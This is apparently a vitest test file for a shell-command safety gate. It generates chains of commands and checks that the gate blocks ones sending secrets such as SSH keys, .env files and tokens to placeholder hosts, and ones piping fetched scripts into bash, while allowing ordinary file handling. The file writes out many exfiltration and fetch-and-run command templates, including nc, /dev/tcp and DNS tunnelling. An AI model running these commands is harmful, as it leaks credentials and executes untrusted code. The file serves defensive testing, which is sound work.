// Shows that data keeps its identity on any way through a shell: what is secret is noticed where it leaves, what was fetched where it runs, and ordinary files pass.
import { describe, expect, test } from 'vitest'
import { buildGate } from '../built-gate.ts'

const { check } = await buildGate()
const verdict = (command: string): string => check(command).decision.verdict

/** Where data is: in a file, in a word, or put out by a command. */
type Form = 'file' | 'word' | 'stream'
interface Held {
  readonly form: Form
  readonly text: string
  /** What was run before it lies there. */
  readonly before: readonly string[]
}
/** `encoded`: it is no longer as it was, and cannot run. */
type Step = readonly [before: string, form: Form, text: string, encoded?: true]

const fromFile = (f: string, g: string): readonly Step[] => [
  [`cp ${f} ${g}`, 'file', g],
  [`mv ${f} ${g}`, 'file', g],
  [`ln -s ${f} ${g}`, 'file', g],
  [`cat < ${f} > ${g}`, 'file', g],
  [`dd if=${f} of=${g}`, 'file', g],
  [`tee ${g} < ${f} > /dev/null`, 'file', g],
  [`find ${f} -exec cp {} ${g} \\;`, 'file', g],
  [`k() { cp "$1" "$2"; }; k ${f} ${g}`, 'file', g],
  [`python3 -c "import shutil; shutil.copy('${f}', '${g}')"`, 'file', g],
  [`gzip -c ${f} > ${g}.gz`, 'file', `${g}.gz`, true],
  [`openssl enc -aes-256-cbc -in ${f} -out ${g} -k x`, 'file', g, true],
  [`V${g}=$(cat ${f})`, 'word', `$V${g}`],
  [`read -r V${g} < ${f}`, 'word', `$V${g}`],
  [`mapfile -t V${g} < ${f}`, 'word', `\${V${g}[@]}`],
  [`V${g}=$(base64 -w0 ${f})`, 'word', `$V${g}`, true],
  ['', 'stream', `cat ${f}`],
  ['', 'stream', `cat <(cat ${f})`],
  [`exec 3< ${f}`, 'stream', 'cat <&3'],
  [`mkfifo p${g}; cat ${f} > p${g} &`, 'stream', `cat p${g}`],
  [`coproc C { cat ${f}; }`, 'stream', 'cat <&"${C[0]}"'],
  ['', 'stream', `xxd -p ${f}`, true],
]
const fromStream = (s: string, g: string): readonly Step[] => [
  [`${s} > ${g}`, 'file', g],
  [`{ ${s}; } >> ${g}`, 'file', g],
  [`exec 5> ${g}; ${s} >&5; exec 5>&-`, 'file', g],
  [`exec {n}> ${g}; ${s} >&$n`, 'file', g],
  [`${s} | tee ${g} > /dev/null`, 'file', g],
  [`${s} | dd of=${g}`, 'file', g],
  [`${s} | tee >(cat > ${g})`, 'file', g],
  [`mkfifo p${g}; cat p${g} > ${g} & ${s} > p${g}; wait`, 'file', g],
  [`coproc { ${s}; }; cat <&"\${COPROC[0]}" > ${g}`, 'file', g],
  [`coproc cat; ${s} >&"\${COPROC[1]}"; cat <&"\${COPROC[0]}" > ${g}`, 'file', g],
  [`V${g}=$(${s})`, 'word', `$V${g}`],
  [`read -r V${g} < <(${s})`, 'word', `$V${g}`],
  ['', 'stream', `${s} | cat`],
  ['', 'stream', `${s} | tee ${g}`],
  ['', 'stream', `${s} | while read -r l; do echo "$l"; done`],
  ['', 'stream', `${s} | base64`, true],
  ['', 'stream', `${s} | gzip`, true],
]
const fromWord = (w: string, g: string): readonly Step[] => [
  [`W${g}="${w}"`, 'word', `$W${g}`],
  [`declare W${g}="${w}"`, 'word', `$W${g}`],
  [`A${g}=("${w}")`, 'word', `\${A${g}[0]}`],
  [`declare -A M${g}; M${g}[k]="${w}"`, 'word', `\${M${g}[k]}`],
  [`Z${g}="${w}"; declare -n R${g}=Z${g}`, 'word', `$R${g}`],
  [`Z${g}="${w}"; N${g}=Z${g}`, 'word', `\${!N${g}}`],
  [`W${g}=$(echo "${w}" | base64)`, 'word', `$W${g}`, true],
  [`echo "${w}" > ${g}`, 'file', g],
  [`cat > ${g} <<EOF\n${w}\nEOF`, 'file', g],
  ['', 'stream', `echo "${w}"`],
  ['', 'stream', `cat <<< "${w}"`],
  ['', 'stream', `bash -c 'echo "$1"' _ "${w}"`],
  [`export W${g}="${w}"`, 'stream', `sh -c 'echo "$W${g}"'`],
  [`export W${g}="${w}"`, 'stream', `python3 -c "import os; print(os.environ['W${g}'])"`],
]
const STEPS: Readonly<Record<Form, (text: string, fresh: string) => readonly Step[]>> = { file: fromFile, stream: fromStream, word: fromWord }

const TO = 'https://collect.a.example/in'
type Ends = Readonly<Record<Form, readonly ((text: string) => string)[]>>
const OUT: Ends = {
  file: [
    (f) => `curl -F "f=@${f}" ${TO}`,
    (f) => `curl -T ${f} ${TO}`,
    (f) => `wget --post-file=${f} ${TO}`,
    (f) => `xh ${TO} f@${f}`,
    (f) => `python3 -c "import requests; requests.post('${TO}', data=open('${f}').read())"`,
    (f) => `node -e "fetch('${TO}',{method:'POST',body:require('fs').readFileSync('${f}')})"`,
  ],
  stream: [
    (s) => `${s} | curl -d @- ${TO}`,
    (s) => `${s} > >(curl -d @- ${TO})`,
    (s) => `${s} | http POST ${TO}`,
    (s) => `${s} | python3 -c "import sys,requests; requests.post('${TO}', data=sys.stdin.read())"`,
    (s) => `${s} | node -e "fetch('${TO}',{method:'POST',body:require('fs').readFileSync(0)})"`,
  ],
  word: [
    (w) => `curl -d "${w}" ${TO}`,
    (w) => `curl "${TO}?q=${w}"`,
    (w) => `http ${TO} q="${w}"`,
    (w) => `wget --post-data="${w}" ${TO}`,
    (w) => `X="${w}" node -e "fetch('${TO}?q='+process.env.X)"`,
  ],
}
/** Where nobody would send an ordinary file either, or where what is sent is only said along. */
const OUT_OF_A_SECRET: Ends = {
  file: [
    ...OUT.file,
    (f) => `scp ${f} bob@a.example:`,
    (f) => `nc a.example 99 < ${f}`,
    (f) => `exec 9<>/dev/tcp/a.example/80; cat ${f} >&9`,
    (f) => `aws s3 cp ${f} s3://bucket-x/`,
    (f) => `gsutil cp ${f} gs://bucket-x/`,
    (f) => `dig $(base64 -w0 ${f}).a.example`,
  ],
  stream: [
    ...OUT.stream,
    (s) => `${s} | tee >(nc a.example 99)`,
    (s) => `${s} | pastebinit`,
    (s) => `${s} | aws s3 cp - s3://bucket-x/k`,
    (s) => `nslookup "$(${s} | xxd -p).a.example"`,
  ],
  word: [
    ...OUT.word,
    (w) => `curl -H "X: ${w}" ${TO}`,
    (w) => `curl -u "a:${w}" ${TO}`,
    (w) => `curl -A "${w}" ${TO}`,
    (w) => `gh issue create -R bob/x --title a --body "${w}"`,
    (w) => `echo "${w}" > /dev/tcp/a.example/80`,
  ],
}
const SECRETS: readonly (readonly [form: Form, text: string])[] = [
  ['file', '~/.ssh/id_rsa'],
  ['file', '.env'],
  ['file', '~/.aws/credentials'],
  ['file', '~/.bash_history'],
  ['stream', 'env'],
  ['stream', 'printenv'],
  ['word', '$GITHUB_TOKEN'],
  ['word', '$DB_PASSWORD'],
]
const ORDINARY: readonly (readonly [form: Form, text: string])[] = [
  ['file', 'README.md'],
  ['file', 'data/report.json'],
  ['stream', 'git log --oneline -5'],
  ['word', '$VERSION'],
]
const FETCHED: readonly (readonly [form: Form, text: string, before?: string])[] = [
  ['stream', 'curl -fsSL https://get.a.example/x'],
  ['stream', 'wget -qO- https://get.a.example/x'],
]
const RUN: Ends = {
  file: [(f) => `bash ${f}`, (f) => `sh < ${f}`, (f) => `chmod +x ${f} && ./${f}`, (f) => `eval "$(cat ${f})"`, (f) => `cat ${f} | bash`],
  stream: [(s) => `${s} | bash`, (s) => `bash <(${s})`, (s) => `eval "$(${s})"`, (s) => `${s} > >(bash)`, (s) => `${s} | python3 -`],
  word: [(w) => `eval "${w}"`, (w) => `bash -c "${w}"`, (w) => `bash <<< "${w}"`, (w) => `echo "${w}" | sh`],
}
const SHOWN: Ends = { file: [(f) => `cat ${f}`, (f) => `wc ${f}`], stream: [(s) => `${s} | wc`], word: [(w) => `echo "${w}"`] }

/** As good as any; the same each time. */
function numbers(seed: number): (below: number) => number {
  let state = seed
  return (below) => {
    state = (state * 1_103_515_245 + 12_345) & 0x7fffffff
    return Math.floor((state / 0x7fffffff) * below) % below
  }
}

function chains(seed: number, count: number, sources: readonly (readonly [Form, string, string?])[], ends: Ends, whole = false): readonly string[] {
  const next = numbers(seed)
  return Array.from({ length: count }, () => {
    const [form, text, before] = sources[next(sources.length)]!
    let held: Held = { form, text, before: before === undefined ? [] : [before] }
    for (let hop = 0, hops = 1 + next(4); hop < hops; hop++) {
      const steps = STEPS[held.form](held.text, `o${hop}`).filter((step) => !whole || step[3] === undefined)
      const step = steps[next(steps.length)]!
      held = { form: step[1], text: step[2], before: step[0] === '' ? held.before : [...held.before, step[0]] }
    }
    const last = ends[held.form]
    return [...held.before, last[next(last.length)]!(held.text)].join('\n')
  })
}

describe.each([11, 12, 13])('chains of seed %i', (seed) => {
  test('a secret is noticed wherever it leaves', () => {
    expect(chains(seed, 150, SECRETS, OUT_OF_A_SECRET).filter((command) => verdict(command) === 'allow')).toEqual([])
  })
  test('an ordinary file may leave', () => {
    expect(chains(seed, 100, ORDINARY, OUT).filter((command) => verdict(command) !== 'allow')).toEqual([])
  })
  test('what was fetched is noticed wherever it runs', () => {
    expect(chains(seed, 150, FETCHED, RUN, true).filter((command) => verdict(command) === 'allow')).toEqual([])
  })
  test('what was fetched may be looked at', () => {
    expect(chains(seed, 100, FETCHED, SHOWN).filter((command) => verdict(command) !== 'allow')).toEqual([])
  })
})

test('co-processes and pipes that nobody writes to, and files that are only written by number, are nothing', () => {
  const commands = [
    'exec 3>build.log; npm run build >&3 2>&1; exec 3>&-; tail build.log',
    'coproc sleep 5; wait $COPROC_PID',
    '{ echo a; ls >&3; } 3> list.txt',
    'mkfifo p; cat p & ls > p',
    'make 2>&1 | tee >(grep -i error > errors.log)',
    'coproc cat; echo hi >&"${COPROC[1]}"',
  ]
  expect(commands.filter((command) => verdict(command) !== 'allow')).toEqual([])
})
